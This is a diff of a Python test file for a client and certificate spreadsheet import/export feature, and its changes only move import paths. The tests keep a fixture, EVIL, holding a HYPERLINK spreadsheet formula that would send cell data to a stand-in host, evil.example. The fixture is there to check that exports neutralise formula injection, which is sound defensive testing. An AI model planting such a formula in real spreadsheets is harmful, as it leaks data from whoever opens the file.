@@ -17,11 +17,11 @@ from hypothesis import strategies as st
 
 from clients.imports.client_export import export_clients
 from clients.imports.client_import import import_clients
-from clients.imports.columns import normalise_text
 from clients.models import Client, Contact
 from infra.csvsafe import DANGEROUS, neutralise, unneutralise
 from infra.importexport import FORMATS, SafeCSV, SafeImportExportMixin, SafeXLSX
-from tests.clients import test_import_certificates as certs
+from infra.tabular import normalise_text
+from tests.certificates import test_import_certificates as certs
 from tests.clients.test_import_clients import ZH, row
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
@@ -168,7 +168,7 @@ importer = certs.importer  # the fixture: a decision maker
 
 
 def test_the_certificate_export_writes_no_formula_and_imports_back(importer):
-    from clients.imports.certificate_export import export_certificates
+    from certificates.imports.certificate_export import export_certificates
 
     certs.clients(1)
     Client.objects.update(legal_name=EVIL)
